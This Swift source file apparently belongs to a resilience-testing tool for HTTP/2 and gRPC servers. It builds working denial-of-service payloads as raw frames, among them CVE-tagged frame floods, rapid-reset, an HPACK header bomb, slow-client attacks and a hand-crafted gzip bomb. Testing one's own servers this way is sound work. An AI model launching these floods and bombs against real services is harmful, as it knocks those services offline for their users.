extension Attack {
    /// One for each row of what is known to be done to HTTP/2 servers.
    public static let all: [Attack] = frameFloods + streamFloods + slow + expensive

    private static let upload = Frame.call("ClientStream", on: 1)

    /// Frames that cost their sender nothing.
    private static let frameFloods: [Attack] = [
        flood("ping", "PING flood, CVE-2019-9512", Frame.bytes(Frame.ping, [1, 2, 3, 4, 5, 6, 7, 8])),
        flood("settings", "SETTINGS flood, CVE-2019-9515", Frame.bytes(Frame.settings)),
        flood("priority", "PRIORITY flood, CVE-2019-9513", Frame.bytes(Frame.priority, stream: 1, [0, 0, 0, 3, 200])),
        flood("window-update", "WINDOW_UPDATE flood", Frame.bytes(Frame.windowUpdate, [0, 0, 0, 1])),
        flood("unknown-frames", "frames of no known type", Frame.bytes(0xBE, stream: 9, [1, 2, 3])),
        flood("empty-data", "empty DATA, CVE-2019-9518", opening: upload, Frame.bytes(Frame.data, stream: 1)),
        flood("tiny-data", "a DATA frame for each byte", opening: upload, Frame.bytes(Frame.data, stream: 1, [0])),
        flood(
            "tiny-messages", "a DATA frame for each empty message", opening: upload, Frame.bytes(Frame.data, stream: 1, Frame.message([]))),
        flood(
            "continuation", "CONTINUATION flood, CVE-2024-28182", opening: Frame.call("Unary", on: 1, flags: 0),
            Frame.bytes(Frame.continuation, stream: 1)),
        Attack("unread-pings", "answers that nobody reads, CVE-2019-9512", reads: false) { _ in pings },
        Attack("damaged-frames", "frames longer than allowed, padding longer than its frame") { _ in
            Frame.bytes(Frame.data, flags: 8, stream: 1, [255]) + [0xFF, 0xFF, 0xFF, 0, 0, 0, 0, 0, 1]
        },
    ]

    private static let pings = Frame.repeated(Frame.bytes(Frame.ping, [1, 2, 3, 4, 5, 6, 7, 8]), 4_000)

    private static func flood(_ name: String, _ about: String, opening: [UInt8] = [], _ frame: [UInt8]) -> Attack {
        let burst = Frame.repeated(frame, max(1, 65_536 / frame.count))
        return Attack(name, about, opening: opening) { _ in burst }
    }

    /// Streams that are many, or gone before they are served.
    private static let streamFloods: [Attack] = [
        Attack("rapid-reset", "streams opened and reset at once, CVE-2023-44487") { round in
            Frame.streams(500, round: round) { Frame.call("Unary", on: $0) + Frame.bytes(Frame.reset, stream: $0, Frame.number(8)) }
        },
        Attack("made-you-reset", "streams that the server has to reset, CVE-2025-8671") { round in
            Frame.streams(50, round: round) {
                Frame.call("Unary", on: $0) + Frame.bytes(Frame.windowUpdate, stream: $0, Frame.number(0x7FFF_FFFF))
            }
        },
        Attack("too-many-streams", "more streams than are allowed") { round in
            Frame.streams(500, round: round) { Frame.call("Unary", on: $0) }
        },
        Attack("bad-fields", "header sections that are no request's") { round in
            Frame.streams(50, round: round) { Frame.call("Unary", on: $0, [("Upper", "case"), ("connection", "close")]) }
        },
        Attack("header-bomb", "an HPACK bomb: 16 KiB that unfold to 48 MB") { _ in headerBomb },
    ]

    /// One entry of HPACK's table with 3,900 bytes, and 12,000 references to it.
    private static let headerBomb: [UInt8] = {
        // 3,900 as a 7-bit prefix integer (RFC 7541 §5.1).
        let value = [0x7F, 0xBD, 0x1D] + [UInt8](repeating: 118, count: 3_900)
        let section = Frame.fields("Unary") + [0x40, 1, 97] + value + [UInt8](repeating: 0xBE, count: 12_000)
        return Frame.bytes(Frame.headers, flags: Frame.endHeaders, stream: 1, section)
    }()

    /// Clients that take their time, or nothing.
    private static let slow: [Attack] = [
        Attack("slow-handshake", "500 connections that say nothing", connections: 500, greets: false),
        Attack("slow-headers", "100 header sections that do not end", connections: 100, opening: Frame.call("Unary", on: 1, flags: 0)),
        Attack("slow-body", "10 connections × 100 calls without their message", connections: 10) { round in
            round == 0 ? Frame.streams(100, round: 0) { Frame.call("Unary", on: $0) } : nil
        },
        Attack("slow-read", "10 × 100 streams of replies without window, CVE-2019-9511", connections: 10, settings: Frame.setting(4, 1)) {
            round in round == 0 ? Frame.streams(100, round: 0) { endless(on: $0) } : nil
        },
        Attack(
            "unread-replies", "100 streams of replies that nobody reads, CVE-2019-9517", reads: false,
            settings: Frame.setting(4, 0x7FFF_0000), opening: Frame.bytes(Frame.windowUpdate, Frame.number(0x7FFF_0000))
        ) { round in round == 0 ? Frame.streams(100, round: 0) { endless(on: $0) } : nil },
        Attack("connects", "connections that are closed at once", connections: 20, greets: false, hangsUp: true),
    ]

    private static func endless(on stream: UInt32) -> [UInt8] {
        let request = Frame.message([0x0A, 100] + [UInt8](repeating: 120, count: 100) + Frame.count(1_000_000_000))
        return Frame.call("ServerStream", on: stream) + Frame.bytes(Frame.data, flags: Frame.endStream, stream: stream, request)
    }

    /// Messages that cost more than their bytes.
    private static let expensive: [Attack] = [
        Attack("long-messages", "100 messages of 4 MiB that do not end, as far as their windows go") { round in
            round < 16 ? Frame.streams(100, round: 0) { part(round, on: $0) } : nil
        },
        Attack("gzip-bomb", "messages of 26 kB that unpack to 4 MiB, 50 calls at once", awaitedEnds: 50) { round in
            Frame.streams(50, round: round) {
                Frame.call("Unary", on: $0, [("grpc-encoding", "gzip")])
                    + Frame.bytes(Frame.data, flags: Frame.endStream, stream: $0, gzipBomb)
            }
        },
        Attack("nested-groups", "messages of 16 kB of groups in groups", awaitedEnds: 50) { round in
            Frame.streams(50, round: round) {
                Frame.call("Unary", on: $0) + Frame.bytes(Frame.data, flags: Frame.endStream, stream: $0, nestedGroups)
            }
        },
        Attack("unknown-fields", "messages of 8,000 fields that are none of their type's", awaitedEnds: 50) { round in
            Frame.streams(50, round: round) {
                Frame.call("Unary", on: $0) + Frame.bytes(Frame.data, flags: Frame.endStream, stream: $0, unknownFields)
            }
        },
    ]

    private static func part(_ round: Int, on stream: UInt32) -> [UInt8] {
        let bytes = [UInt8](repeating: 7, count: 16_384)
        guard round == 0 else { return Frame.bytes(Frame.data, stream: stream, bytes) }
        return Frame.call("ClientStream", on: stream)
            + Frame.bytes(Frame.data, stream: stream, [0] + Frame.number(4 * 1024 * 1024) + Array(bytes.dropFirst(5)))
    }

    private static let nestedGroups = Frame.message([UInt8](repeating: 0x7B, count: 16_000))
    private static let unknownFields = Frame.message(Frame.repeated([0x78, 0x01], 8_000))

    /// Four MiB of zeros, less a few, by deflate's longest matches: 258 bytes for two bits (RFC 1951 §3.2.6, RFC 1952).
    private static let gzipBomb: [UInt8] = {
        var bits = BitWriter()
        // The last block, by the fixed code; a zero as itself (0x30, eight bits).
        bits.write(1, 1)
        bits.write(1, 2)
        bits.writeCode(0x30, 8)
        for _ in 0..<16_000 {
            // Length 258 is code 285, eight bits without more; distance 1 is code 0 of five bits.
            bits.writeCode(0xC5, 8)
            bits.writeCode(0, 5)
        }
        bits.writeCode(0, 7)
        let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        // The checksum is wrong: that is seen when all is unpacked.
        return Frame.message(header + bits.finished + [0, 0, 0, 0] + Frame.number(16_000 * 258 + 1).reversed(), flag: 1)
    }()
}

/// Deflate's bits: numbers from their lowest bit, codes from their highest (RFC 1951 §3.1.1).
private struct BitWriter {
    private var bytes: [UInt8] = []
    private var current: UInt8 = 0
    private var used: UInt8 = 0

    mutating func write(_ value: UInt32, _ count: Int) {
        for shift in 0..<count { append(UInt8(value >> UInt32(shift) & 1)) }
    }

    mutating func writeCode(_ code: UInt32, _ count: Int) {
        for shift in (0..<count).reversed() { append(UInt8(code >> UInt32(shift) & 1)) }
    }

    private mutating func append(_ bit: UInt8) {
        current |= bit << used
        used += 1
        guard used == 8 else { return }
        bytes.append(current)
        (current, used) = (0, 0)
    }

    var finished: [UInt8] { used == 0 ? bytes : bytes + [current] }
}
